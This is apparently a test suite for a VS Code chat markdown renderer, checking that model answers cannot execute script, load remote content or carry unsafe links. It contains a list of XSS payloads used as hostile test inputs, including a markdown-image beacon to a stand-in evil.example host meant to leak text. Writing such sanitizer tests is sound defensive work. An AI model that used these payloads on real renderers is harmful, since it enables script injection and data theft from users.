// What a model writes is hostile until proven otherwise: after rendering nothing may run, load, style or lead anywhere by itself.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { linkTarget } from '../../media/chat/markdown.ts';
import { openPage } from './page.ts';

const page = openPage();

const allowedTags = new Set('P BR HR EM STRONG S CODE PRE SPAN A UL OL LI BLOCKQUOTE H1 H2 H3 H4 H5 H6 TABLE THEAD TBODY TR TH TD'.split(' '));
const allowedAttributes = new Set(['class', 'start', 'title', 'role', 'tabindex']);

/** The promise of markdown.ts, read from the finished document. */
function assertHarmless(markdown: string): HTMLElement {
  const body = page.show(markdown);
  for (const element of body.querySelectorAll('*')) {
    assert.ok(allowedTags.has(element.tagName), `<${element.tagName}> came through from ${JSON.stringify(markdown)}`);
    for (const { name, value } of element.attributes) {
      assert.ok(allowedAttributes.has(name), `${name}="${value}" came through from ${JSON.stringify(markdown)}`);
      // A title is text that VS Code never follows; it shows where a link leads.
      if (name === 'title') assert.match(value, /^https?:\/\//i);
      if (name === 'class') assert.match(value, /^[\w#+. -]+$/);
    }
    const target = linkTarget(element);
    if (target !== undefined) assert.match(target, /^https?:\/\//i);
  }
  assert.equal(Reflect.get(page.window, 'owned'), undefined, `a script ran from ${JSON.stringify(markdown)}`);
  return body;
}

const hostile: Readonly<Record<string, string>> = {
  'a script element': '<script>window.owned = 1</script>',
  'an image with a handler': '<img src=x onerror="window.owned = 1">',
  'a Markdown image': '![x](https://evil.example/leak?text=secret)',
  'a Markdown image in a link': '[![x](https://evil.example/a.png)](https://evil.example/b)',
  'a reference image': '![x][r]\n\n[r]: https://evil.example/leak.png',
  'a javascript link': '[x](javascript:window.owned=1)',
  'a javascript link with capitals and entities': '[x](JaVa&#115;cript&#58;window.owned=1) [y](java\tscript:1) [z](&#x6A;avascript:1)',
  'a command link': '[run](command:workbench.action.terminal.new)',
  'a vscode link': '[x](vscode://ext/run) <vscode:extension/evil> [y](vscode-insiders://x)',
  'a data link': '[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml,<svg/onload=1>)',
  'a file link': '[x](file:///etc/passwd) <file:///etc/passwd>',
  'relative and protocol-less links': '[a](//evil.example) [b](/etc/passwd) [c](../x) [d](#x) [e](mailto:a@b.example)',
  'an svg with a script': '<svg onload="window.owned=1"><script>window.owned=1</script><a xlink:href="javascript:1"><text>x</text></a></svg>',
  mathml: '<math><mtext><table><mglyph><style><img src=x onerror="window.owned=1">',
  'a style element': '<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example) }</style>',
  'a style attribute': '<p style="background:url(https://evil.example)">x</p>',
  'a frame': '<iframe src="https://evil.example" srcdoc="<script>parent.owned=1</script>"></iframe>',
  'a form': '<form action="https://evil.example"><input name=q><button formaction="javascript:1">Go</button></form>',
  'meta, base and link':
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example"><link rel=stylesheet href="https://evil.example">',
  'media and objects': '<video src="https://evil.example"></video><audio src=x><object data=x></object><embed src=x>',
  'a template and a noscript': '<noscript><p title="</noscript><img src=x onerror=window.owned=1>"></noscript><template><script>owned=1</script></template>',
  'a comment trick': '<!--><img src=x onerror=window.owned=1>-->',
  'html inside a table, a list and a quote': '|a|\n|-|\n|<img src=x onerror=owned=1>|\n\n- <script>owned=1</script>\n\n> <iframe src=x>',
  'a fence that closes itself in its info string': '```"><img src=x onerror=window.owned=1>\ncode\n```',
  'a fence with markup in it': '```html\n</code></pre><script>window.owned=1</script>\n```',
  'a fence with a handler as its language': '``` onclick=owned=1 class=x\ncode\n```',
  'inline code with markup': '`</code><script>window.owned=1</script>`',
  'a link title that breaks out': '[x](https://a.example "\\"><script>window.owned=1</script>")',
  'an autolink with a quote': 'https://a.example/"onmouseover="window.owned=1',
  'a link whose address breaks out': '[x](https://a.example/"onclick="window.owned=1")',
  'an id that hides a global': '<a id=document name=document>x</a> [x](https://a.example){#document}',
  'an unclosed tag': '<img src=x onerror=window.owned=1 ',
  'a null byte': '<scr\u0000ipt>window.owned=1</scr\u0000ipt> [x](java\u0000script:1)',
};

describe('a hostile answer is harmless:', () => {
  for (const [name, markdown] of Object.entries(hostile)) test(name, () => void assertHarmless(markdown));

  test('any mixture of hostile pieces', () => {
    const piece = fc.constantFrom(...Object.values(hostile), '```', '\n', '> ', '- ', '|', '**', '[', '](', ')', '<', '>', '"', '&#60;', '\n\n    ', '\\');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => void assertHarmless(pieces.join(''))),
      { numRuns: 150 },
    );
  });

  test('markup in an answer is shown as the text it is', () => {
    assert.equal(page.show('<b>bold</b>').textContent?.trim(), '<b>bold</b>');
  });

  test('an image stays text with a link that asks, so that its description is not lost', () => {
    const body = page.show('![a diagram](https://evil.example/leak.png)');
    assert.equal(body.textContent?.trim(), '!a diagram');
    assert.equal(body.querySelectorAll('a').length, 1);
  });

  test('deep nesting and a long line end soon and stay harmless', () => {
    assertHarmless(`${'> '.repeat(3000)}x`);
    assertHarmless(`${'['.repeat(20_000)}x`);
    assertHarmless(`${'*a_'.repeat(10_000)}`);
  });

  test('an answer beyond all reason is shown as plain text', () => {
    const body = assertHarmless(`**x** <script>window.owned=1</script> ${'y'.repeat(250_000)}`);
    assert.equal(body.querySelector('strong'), null);
    assert.ok(body.textContent?.startsWith('**x** <script>'));
  });
});

describe('links', () => {
  test('a web link keeps its address only for the click handler, so that VS Code cannot follow it unasked', () => {
    const anchor = page.show('[docs](https://example.com/a?b=c)').querySelector('a');
    assert.ok(anchor);
    assert.equal(anchor.hasAttribute('href'), false);
    assert.equal(linkTarget(anchor), 'https://example.com/a?b=c');
    assert.equal(anchor.title, 'https://example.com/a?b=c');
    assert.equal(anchor.getAttribute('role'), 'link');
    assert.equal(anchor.tabIndex, 0);
  });

  test('a bare web address becomes a link and a file name does not', () => {
    const body = page.show('See https://example.com/x and main.rs, setup.py, www.example.com and a@example.com.');
    assert.deepEqual(
      [...body.querySelectorAll('a')].map((anchor) => linkTarget(anchor)),
      ['https://example.com/x'],
    );
  });
});

describe('an answer that is still growing', () => {
  const text = (markdown: string): string =>
    page.renderer
      .blocks(markdown, 'growing')
      .map((block) => block.render().textContent ?? '')
      .join('\n');

  test('shows an unclosed fence as code', () => {
    const [, code] = page.renderer.blocks('Look:\n\n```python\nimport re\ndef f(', 'growing');
    const element = code?.render().querySelector('pre > code.language-python');
    assert.equal(element?.textContent, 'import re\ndef f(');
    assert.ok(element?.querySelector('.hljs-keyword'), 'it is coloured already');
  });

  test('does not flash half a closing fence or a lone list marker', () => {
    assert.equal(text('```\ncode\n``').trim(), 'code');
    assert.equal(text('a line\n-').trim(), 'a line');
    assert.equal(text('a line\n\n##').trim(), 'a line');
  });

  test('keeps the keys of finished blocks, so that only the last block is drawn again', () => {
    const keys = (markdown: string): string[] => page.renderer.blocks(markdown, 'growing').map((block) => block.key);
    const before = keys('# One\n\ntwo\n\n```ts\nlet a');
    const after = keys('# One\n\ntwo\n\n```ts\nlet a = 1;\n```\n\nthree');
    assert.deepEqual(after.slice(0, 2), before.slice(0, 2));
    assert.notEqual(after[2], before[2]);
    assert.equal(after.length, 4);
  });
});

describe('code', () => {
  test('is coloured when its language is known and escaped when it is not', () => {
    assert.ok(page.show('```ts\nconst a = "<b>";\n```').querySelector('.hljs-string'));
    const unknown = page.show('```nolanguage\n<b>&amp;\n```').querySelector('code');
    assert.equal(unknown?.textContent, '<b>&amp;');
    assert.equal(unknown?.children.length, 0);
  });

  test('keeps its text exactly, whatever the colours do', () => {
    fc.assert(
      fc.property(fc.constantFrom('ts', 'python', 'html', 'c++', 'unknown', ''), fc.string({ maxLength: 80 }), (language, raw) => {
        const code = raw.replace(/[`\r\u0000]/g, ' ');
        const shown = page.show(`~~~~~~~~ ${language}\n${code}\n~~~~~~~~`).querySelector('pre > code');
        if (!code.includes('~~~~~~~~')) assert.equal(shown?.textContent, code);
      }),
      { numRuns: 200 },
    );
  });
});
